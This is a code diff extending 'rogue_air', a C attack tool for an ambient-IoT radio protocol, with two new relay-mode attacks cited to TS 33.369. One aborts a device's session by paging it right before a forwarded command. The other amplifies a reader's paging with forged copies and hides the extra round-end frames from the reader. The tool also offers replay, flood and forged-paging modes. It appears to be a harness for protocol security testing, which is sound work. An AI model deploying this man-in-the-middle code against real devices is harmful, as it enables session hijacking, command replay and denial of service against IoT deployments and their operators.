@@ -15,6 +15,13 @@
  *            cmd IDHEX FRAMEHEX      an R2D COMMAND frame and the identifier it was sent to
  *          --dup-commands sends every COMMAND twice: the second copy is a replay within the
  *          session (an old COUNT), which the device must reject.
+ *          --page-before-command N: the paging abort (TS 33.369 5.2.2 NOTE 1), deterministic:
+ *          right before forwarding a COMMAND, pages its device N times in fresh sessions of
+ *          its own (SINGLE by the identifier overheard, else ALL; answers discarded).
+ *          --foreign-pagings N: amplification (TS 33.369 5.2.2 NOTE 2): right before forwarding
+ *          a reader's PAGING, sends N copies of it with random RAND_AIOT_n (same session and
+ *          round): the devices' answers to them reach the reader in its own round. The
+ *          ROUND_END frames of those N rounds are not forwarded (the reader's round goes on).
  *   replay --air ADDR --record FILE [--verbatim]
  *          replays the recorded Command Requests into a new session: pages every device
  *          (new RAND_AIOT_n, so new RAND_AIOT_d and K_AIOTF) and sends each recorded NAS PDU
@@ -48,6 +55,7 @@
 static const char usage_text[] =
     "usage: rogue_air page   --air ADDR:PORT [--forge K] [--q Q]\n"
     "       rogue_air relay  --listen ADDR:PORT --air ADDR:PORT --record FILE [--dup-commands]\n"
+    "                        [--page-before-command N] [--foreign-pagings N]\n"
     "       rogue_air replay --air ADDR:PORT --record FILE [--verbatim] [--q Q]\n"
     "       rogue_air flood  --air ADDR:PORT --rate N --duration-ms MS [--q Q]\n";
 
@@ -313,9 +321,60 @@ static void hex_line(FILE *out, const char *tag, const ident *id, const uint8_t 
 	free(h);
 }
 
-static int mode_relay(const char *listen, const char *air, const char *record, int dup)
+/* --page-before-command: n pagings of the device id names (all devices if NULL), each in a
+ * fresh session with a fresh RAND_AIOT_n, from the attacker's own radio fd. */
+static unsigned abort_pages(int fd, const ident *id, unsigned n)
+{
+	unsigned sent = 0;
+	for (unsigned i = 0; i < n; i++) {
+		air_frame f = {.type = AIR_PAGING};
+		rnd(&f.session, sizeof f.session);
+		f.u.paging.q = 0;
+		f.u.paging.kind = id != NULL ? AIR_IDENT_SINGLE : AIR_IDENT_ALL;
+		if (id != NULL) {
+			f.u.paging.ident = id->b;
+			f.u.paging.ident_bits = (uint16_t)(8u * id->len);
+		}
+		rnd(f.u.paging.rand_n, 16);
+		sent += send_frame(fd, &f) == 0;
+	}
+	return sent;
+}
+
+/* --foreign-pagings: ROUND_ENDs of our own pagings still to swallow, per (session, round). */
+typedef struct swallow {
+	uint32_t session;
+	uint16_t round;
+	unsigned left;
+} swallow;
+
+static void foreign_pages(int fd, const air_frame *genuine, unsigned n, swallow *sw)
+{
+	air_frame f = *genuine;
+	for (unsigned i = 0; i < n; i++) {
+		rnd(f.u.paging.rand_n, 16);
+		sw->left += send_frame(fd, &f) == 0;
+	}
+	sw->session = genuine->session;
+	sw->round = genuine->u.paging.round;
+}
+
+/* 1 if f is the ROUND_END of one of our own pagings (not to be forwarded). */
+static int swallowed(swallow *sw, size_t n, const air_frame *f)
+{
+	for (size_t i = 0; i < n; i++)
+		if (sw[i].left && sw[i].session == f->session && sw[i].round == f->u.round_end.round) {
+			sw[i].left--;
+			return 1;
+		}
+	return 0;
+}
+
+static int mode_relay(const char *listen, const char *air, const char *record, int dup,
+		      unsigned abort_n, unsigned foreign_n)
 {
 	int lfd = air_socket(NULL, listen), ufd = air_socket(air, NULL);
+	int afd = abort_n ? air_socket(air, NULL) : -1; /* the attacker's own radio */
 	FILE *out = fopen(record, "a");
 	air_addr reader;
 	socklen_t rlen = 0;
@@ -323,7 +382,9 @@ static int mode_relay(const char *listen, const char *air, const char *record, i
 	size_t nseen = 0, seencap = 0;
 	paged pg[256];
 	size_t npg = 0;
-	unsigned long up = 0, down = 0, cmds = 0, invs = 0, dups = 0;
+	unsigned long up = 0, down = 0, cmds = 0, invs = 0, dups = 0, aborts = 0, foreign = 0;
+	swallow sw[64];
+	size_t nsw = 0;
 	uint8_t buf[AIR_MAX_FRAME + 1];
 	struct sockaddr_storage ss;
 	socklen_t sl = sizeof ss;
@@ -335,13 +396,17 @@ static int mode_relay(const char *listen, const char *air, const char *record, i
 	}
 	memset(&reader, 0, sizeof reader);
 	memset(pg, 0, sizeof pg);
+	memset(sw, 0, sizeof sw);
 	getsockname(lfd, (struct sockaddr *)&ss, &sl);
 	fprintf(stderr, "rogue_air: relay on %s -> %s\n",
 	        air_addr_str((struct sockaddr *)&ss, a, sizeof a), air);
 	while (!stop) {
-		struct pollfd p[2] = {{.fd = lfd, .events = POLLIN}, {.fd = ufd, .events = POLLIN}};
-		if (poll(p, 2, 500) <= 0)
+		struct pollfd p[3] = {{.fd = lfd, .events = POLLIN}, {.fd = ufd, .events = POLLIN},
+				      {.fd = afd, .events = POLLIN}};
+		if (poll(p, 3, 500) <= 0)
 			continue;
+		if (p[2].revents & POLLIN) /* answers to our own pagings: dropped */
+			(void)recv(afd, buf, sizeof buf, 0);
 		if (p[0].revents & POLLIN) { /* R2D from the reader */
 			air_addr from;
 			socklen_t flen = sizeof from;
@@ -359,15 +424,23 @@ static int mode_relay(const char *listen, const char *air, const char *record, i
 					e->id.len = (uint8_t)(f.u.paging.ident_bits / 8);
 					memcpy(e->id.b, f.u.paging.ident, e->id.len);
 				}
-				send(ufd, buf, (size_t)n, 0);
+				const ident *id = NULL;
 				if (ok && f.type == AIR_COMMAND) {
-					const ident *id = NULL;
 					for (size_t i = nseen; i-- > 0;)
 						if (sv[i].session == f.session &&
 						    sv[i].handle == f.u.cmd.handle) {
 							id = &sv[i].id;
 							break;
 						}
+					aborts += abort_pages(afd, id, abort_n);
+				}
+				if (ok && f.type == AIR_PAGING && foreign_n) {
+					swallow *e = &sw[nsw++ % 64];
+					foreign_pages(ufd, &f, foreign_n, e);
+					foreign += e->left;
+				}
+				send(ufd, buf, (size_t)n, 0);
+				if (ok && f.type == AIR_COMMAND) {
 					if (id != NULL) {
 						hex_line(out, "cmd", id, buf, (size_t)n);
 						cmds++;
@@ -383,6 +456,9 @@ static int mode_relay(const char *listen, const char *air, const char *record, i
 		if (p[1].revents & POLLIN) { /* D2R from the medium */
 			ssize_t n = recv(ufd, buf, sizeof buf, 0);
 			air_frame f;
+			if (n > 0 && foreign_n && air_decode(buf, (size_t)n, &f) == AIOT_OK &&
+			    f.type == AIR_ROUND_END && swallowed(sw, nsw < 64 ? nsw : 64, &f))
+				continue;
 			if (n > 0 && rlen > 0) {
 				sendto(lfd, buf, (size_t)n, 0, &reader.sa, rlen);
 				down++;
@@ -410,15 +486,19 @@ static int mode_relay(const char *listen, const char *air, const char *record, i
 	}
 	fprintf(stderr,
 	        "rogue_air: relay: %lu R2D and %lu D2R frames forwarded, %lu Inventory Responses "
-	        "and %lu COMMAND frames recorded, %lu duplicated\n",
-	        up, down, invs, cmds, dups);
+	        "and %lu COMMAND frames recorded, %lu duplicated, %lu abort pagings, %lu foreign "
+	        "pagings\n",
+	        up, down, invs, cmds, dups, aborts, foreign);
 	printf("{\"mode\":\"relay\",\"r2d\":%lu,\"d2r\":%lu,\"inv_recorded\":%lu,"
-	       "\"cmd_recorded\":%lu,\"cmd_duplicated\":%lu}\n",
-	       up, down, invs, cmds, dups);
+	       "\"cmd_recorded\":%lu,\"cmd_duplicated\":%lu,\"abort_pagings\":%lu,"
+	       "\"foreign_pagings\":%lu}\n",
+	       up, down, invs, cmds, dups, aborts, foreign);
 	fclose(out);
 	free(sv);
 	close(lfd);
 	close(ufd);
+	if (afd >= 0)
+		close(afd);
 	return 0;
 }
 
@@ -547,11 +627,12 @@ int main(int argc, char **argv)
 	    {"record", required_argument, NULL, 3}, {"dup-commands", no_argument, NULL, 4},
 	    {"forge", required_argument, NULL, 5},  {"verbatim", no_argument, NULL, 6},
 	    {"rate", required_argument, NULL, 7},   {"duration-ms", required_argument, NULL, 8},
-	    {"q", required_argument, NULL, 9},      {NULL, 0, NULL, 0},
+	    {"q", required_argument, NULL, 9},      {"page-before-command", required_argument, NULL, 10},
+	    {"foreign-pagings", required_argument, NULL, 11}, {NULL, 0, NULL, 0},
 	};
 	const char *air = NULL, *listen = NULL, *record = NULL;
 	int dup = 0, verbatim = 0, q = 6, o;
-	unsigned forge = 1, rate = 100, duration = 1000;
+	unsigned forge = 1, rate = 100, duration = 1000, abort_n = 0, foreign_n = 0;
 	if (argc < 2) {
 		fputs(usage_text, stderr);
 		return 1;
@@ -587,6 +668,12 @@ int main(int argc, char **argv)
 		case 9:
 			q = atoi(optarg);
 			break;
+		case 10:
+			abort_n = (unsigned)strtoul(optarg, NULL, 0);
+			break;
+		case 11:
+			foreign_n = (unsigned)strtoul(optarg, NULL, 0);
+			break;
 		default:
 			fputs(usage_text, stderr);
 			return 1;
@@ -605,7 +692,7 @@ int main(int argc, char **argv)
 	if (strcmp(mode, "page") == 0)
 		return mode_page(air, q, forge);
 	if (strcmp(mode, "relay") == 0 && listen != NULL && record != NULL)
-		return mode_relay(listen, air, record, dup);
+		return mode_relay(listen, air, record, dup, abort_n, foreign_n);
 	if (strcmp(mode, "replay") == 0 && record != NULL)
 		return mode_replay(air, record, verbatim, q);
 	if (strcmp(mode, "flood") == 0)
